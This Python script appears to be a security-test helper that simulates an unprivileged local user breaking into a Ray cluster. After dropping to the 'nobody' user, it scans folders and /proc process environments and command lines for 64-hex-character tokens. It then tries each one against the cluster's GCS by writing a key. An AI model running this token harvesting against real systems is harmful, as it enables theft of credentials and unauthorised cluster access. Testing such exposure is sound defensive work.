"""Another Unix user of this machine, who tries to get into a Ray cluster: SINCE GCS FOLDERS...

Everything is imported as root; then the process becomes `nobody`, collects all that could be a
token, and puts a value into the GCS with each. Prints a JSON document.
"""

from __future__ import annotations

import json
import os
import re
import sys
from collections.abc import Iterator
from pathlib import Path

from ray._raylet import GcsClient  # type: ignore[attr-defined]

import motet.runtime.backends.ray.environment  # noqa: F401
from motet.runtime.backends.ray.ray_internals import reload_authentication

NOBODY = 65534
TOKEN = re.compile(rb"\b[0-9a-f]{64}\b")
MOST_BYTES = 1 << 20
CLOCK_STEP_S = 1.0


def files(*folders: str) -> Iterator[Path]:
    for folder in folders:
        for at, _, names in os.walk(folder):
            yield from (Path(at) / name for name in names)
    for process in Path("/proc").iterdir():
        if process.name.isdigit():
            yield from (process / "environ", process / "cmdline")


def tokens(since_s: float, *folders: str) -> set[str]:
    """All that other users of this machine can read and that was changed since then."""
    found: set[str] = set()
    for path in files(*folders):
        try:
            if path.stat().st_mtime < since_s - CLOCK_STEP_S:
                continue
            with path.open("rb") as file:
                found |= {match.decode() for match in TOKEN.findall(file.read(MOST_BYTES))}
        except OSError:
            continue
    return found


def gets_in(gcs: str, token: str) -> bool:
    os.environ["RAY_AUTH_TOKEN"] = token
    reload_authentication()
    try:
        GcsClient(address=gcs).internal_kv_put(b"attack", b"pickled", True, b"fun", timeout=20)
    except Exception as error:
        if "InvalidAuthToken" not in str(error):
            raise
        return False
    return True


def main(since_s: str, gcs: str, *folders: str) -> None:
    os.environ["RAY_AUTH_MODE"] = "token"
    reload_authentication()
    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)
    found = tokens(float(since_s), *folders)
    entered = [token for token in ("0" * 64, *sorted(found)) if gets_in(gcs, token)]
    sys.stdout.write(json.dumps({"read": len(found), "entered": len(entered)}))


if __name__ == "__main__":
    main(*sys.argv[1:])
